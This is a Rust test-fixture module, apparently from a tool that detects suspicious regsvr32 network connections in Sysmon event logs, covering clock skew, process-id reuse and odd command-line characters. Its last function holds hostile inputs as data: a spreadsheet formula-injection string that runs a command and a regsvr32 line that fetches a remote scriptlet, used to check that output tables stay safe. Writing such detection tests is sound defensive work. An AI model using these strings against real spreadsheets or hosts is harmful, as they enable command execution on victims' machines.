//! What order and identity decide, and cells that a table must not be spoiled by.

use super::super::teller::{Answer, Start, Started, Teller, To};
use super::super::words::*;
use crate::evtx::Value;
use crate::sysmon::{process_create, process_terminate};

pub(super) fn clocks(t: &mut Teller) {
    use Answer::{Both, Forensic};
    const HOUR: i64 = 3_600_000;
    let to = To::ip(STAGER);
    let mut case = |what: &str, to: To, answer| {
        t.case(what, &Start::of(REGSVR32), &to, answer);
    };
    case(
        "connection stamped 2.1 s before its process's start",
        to.clone().stamped(-4_000),
        Forensic,
    );
    case(
        "connection stamped 8 hours before its process's start",
        to.clone().stamped(-8 * HOUR),
        Forensic,
    );
    case(
        "connection stamped in the same millisecond as its process's start",
        to.clone().stamped(-1_900),
        Both,
    );

    let process = t.process(&Start::of(REGSVR32));
    let what = "connection written to the log before its process's start";
    let connection = t.connection(&process, &to.clone().late(40), what);
    let start = t.event(
        t.clock.plus_ms(4_000),
        &process_create(&t.host, &process),
        what,
    );
    t.sequence(start, connection, Both);
}

pub(super) fn identities(t: &mut Teller) {
    use Answer::{Both, No};
    let to = To::ip(STAGER);
    let first = t.start(
        &Start::of(REGSVR32).pid(7_436),
        "a process that connects to a private address only",
    );
    t.connect(&first, &To::ip("10.20.0.5"), No, "to a private address");
    let end = t.clock.plus_ms(2_500);
    t.event(
        end,
        &process_terminate(&t.host, &first.process, end),
        "it ends, and its process id is free",
    );
    let next = t.start(
        &Start::of(REGSVCS).pid(7_436),
        "the process id used again by another process",
    );
    t.connect(
        &next,
        &to,
        Both,
        "its connection belongs to the second start",
    );
    let ghost = Started {
        record: 0,
        process: t.process(&Start::of(REGSVR32).pid(7_436)),
    };
    t.connect(
        &ghost,
        &to,
        No,
        "the process id a third time, but the start of this process is in no log",
    );

    let twice = t.start(&Start::of(REGSVR32), "private first, then public");
    t.connect(
        &twice,
        &To::ip("192.168.7.20"),
        No,
        "to a private address: not the second stage",
    );
    t.connect(&twice, &to, Both, "then to a public one");
    t.connect(
        &twice,
        &To::ip(BEACON),
        No,
        "and to another: its start is used up",
    );

    let again = t.start(&Start::of(REGSVR32), "a start that Sysmon logs twice");
    t.clock = t.clock.plus_ms(400);
    let mut process = again.process.clone();
    process.start = process.start.plus_ms(400);
    let guid = Value::Guid(again.process.guid(&t.host));
    let event = process_create(&t.host, &process).with("ProcessGuid", guid);
    let record = t.event(t.clock.plus_ms(12), &event, "the same start again");
    t.connect(
        &Started {
            record,
            process: again.process,
        },
        &to,
        Both,
        "pairs with the newest start before it",
    );

    let quiet = t.start(&Start::of(REGSVR32), "a process that never connects");
    let end = t.clock.plus_ms(2_500);
    t.event(
        end,
        &process_terminate(&t.host, &quiet.process, end),
        "it ends",
    );
}

pub(super) fn cells(t: &mut Teller) {
    let to = To::ip(STAGER);
    t.case(
        "a command line that a spreadsheet would run",
        &Start::of(REGSVR32).line("=cmd|' /C calc'!A0"),
        &to,
        Answer::Both,
    );
    let line =
        "regsvr32.exe /s\r\n/n /u\t/i:\"http://cdn.example/a,b;c.sct\"\n scrobj.dll \u{1b}[31m";
    t.case(
        "line breaks, quotes, a comma and an escape in a command line",
        &Start::of(REGSVR32).line(line),
        &to,
        Answer::Both,
    );
    t.case(
        "letters beyond ASCII and beyond 16 bits",
        &Start::of(REGSVR32).line("regsvr32.exe /s C:\\Users\\alice\\Документы\\📎 счёт.dll"),
        &to,
        Answer::Both,
    );
    let host = To::ip(STAGER).with(|c| c.hostname = "@cdn.example".to_owned());
    t.case(
        "a command line that begins with a tab, a host name that begins with @",
        &Start::of(REGSVR32).line("\t+regsvr32"),
        &host,
        Answer::Both,
    );
}
